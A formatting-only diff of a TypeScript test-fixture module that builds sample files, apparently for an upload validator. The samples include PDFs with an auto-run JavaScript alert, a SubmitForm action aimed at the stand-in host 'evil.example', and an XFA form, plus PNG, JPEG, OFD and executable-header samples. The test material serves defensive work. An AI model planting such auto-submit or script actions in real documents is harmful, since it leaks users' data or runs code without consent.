@@ -20,7 +20,10 @@ export function registerAction(document: PDFDocument, action: Record<string, unk
 export const pdfWith = {
   openActionJavaScript: () =>
     genuinePdf((document) => {
-      document.catalog.set(PDFName.of('OpenAction'), registerAction(document, { Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
+      document.catalog.set(
+        PDFName.of('OpenAction'),
+        registerAction(document, { Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
+      );
     }),
   openActionGoTo: () =>
     genuinePdf((document) => {
@@ -38,7 +41,10 @@ export const pdfWith = {
     }),
   submitForm: () =>
     genuinePdf((document) => {
-      document.catalog.set(PDFName.of('OpenAction'), registerAction(document, { S: 'SubmitForm', F: PDFString.of('http://evil.example/') }));
+      document.catalog.set(
+        PDFName.of('OpenAction'),
+        registerAction(document, { S: 'SubmitForm', F: PDFString.of('http://evil.example/') }),
+      );
     }),
   xfa: () =>
     genuinePdf((document) => {
@@ -60,11 +66,15 @@ export async function largePdf(bytes: number, fill: (size: number) => Uint8Array
 }
 
 export function genuinePng(width = 16, height = 12): Promise<Buffer> {
-  return sharp({ create: { width, height, channels: 3, background: '#2a6' } }).png().toBuffer();
+  return sharp({ create: { width, height, channels: 3, background: '#2a6' } })
+    .png()
+    .toBuffer();
 }
 
 export function genuineJpeg(width = 16, height = 12): Promise<Buffer> {
-  return sharp({ create: { width, height, channels: 3, background: '#a62' } }).jpeg().toBuffer();
+  return sharp({ create: { width, height, channels: 3, background: '#a62' } })
+    .jpeg()
+    .toBuffer();
 }
 
 function pngChunk(type: string, data: Buffer): Buffer {
@@ -90,12 +100,18 @@ export function pngClaiming(width: number, height: number): Buffer {
   ]);
 }
 
-export const OFD_XML = Buffer.from('<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>');
-const DOCUMENT_XML = Buffer.from('<?xml version="1.0" encoding="UTF-8"?><ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:CommonData><ofd:MaxUnitID>1</ofd:MaxUnitID></ofd:CommonData></ofd:Document>');
+export const OFD_XML = Buffer.from(
+  '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>',
+);
+const DOCUMENT_XML = Buffer.from(
+  '<?xml version="1.0" encoding="UTF-8"?><ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:CommonData><ofd:MaxUnitID>1</ofd:MaxUnitID></ofd:CommonData></ofd:Document>',
+);
 
 /** An OFD package: OFD.xml at the root, a document, an image resource; `extra` adds or replaces entries. */
 export async function genuineOfd(extra: Zippable = {}): Promise<Buffer> {
-  return Buffer.from(zipSync({ 'OFD.xml': OFD_XML, 'Doc_0/Document.xml': DOCUMENT_XML, 'Doc_0/Res/seal.png': await genuinePng(), ...extra }));
+  return Buffer.from(
+    zipSync({ 'OFD.xml': OFD_XML, 'Doc_0/Document.xml': DOCUMENT_XML, 'Doc_0/Res/seal.png': await genuinePng(), ...extra }),
+  );
 }
 
 /** A minimal Windows executable's first bytes (MZ header). */
